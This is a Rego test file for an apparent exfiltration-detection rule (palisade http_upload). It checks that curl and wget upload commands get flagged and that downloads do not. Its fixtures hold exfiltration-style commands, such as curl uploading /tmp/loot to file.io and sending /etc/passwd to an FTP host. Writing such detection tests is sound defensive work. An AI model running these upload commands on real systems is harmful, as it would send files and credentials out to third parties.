package palisade.rules.http_upload_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.http_upload as rule

test_curl_form_file if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/curl", ["curl", "-F", "file=@/tmp/loot", "https://file.io/"])
	hits == {"curl uploads data (-F) on the host: curl -F file=@/tmp/loot https://file.io/"}
}

test_curl_upload_and_data_from_file if {
	count(rule.hits) == 1 with input as fx.container_exec("/usr/bin/curl", ["curl", "-T", "/etc/passwd", "ftp://x/"])
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/curl", ["curl", "-s", "-X", "POST", "--data-binary", "@-", "https://paste.example"])
}

test_wget_post if {
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/wget", ["wget", "--post-file=/tmp/a", "https://example.com/"])
	count(rule.hits) == 1 with input as fx.host_exec("/usr/bin/wget", ["wget", "--post-data=msg=x", "https://example.com/"])
}

test_downloads_and_inline_posts_are_not_matched if {
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/curl", ["curl", "-sSL", "-o", "/tmp/x", "https://example.com/x"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/curl", ["curl", "-d", "{\"a\":1}", "http://api/"])
	count(rule.hits) == 0 with input as fx.host_exec("/usr/bin/wget", ["wget", "-q", "https://example.com/x"])
}
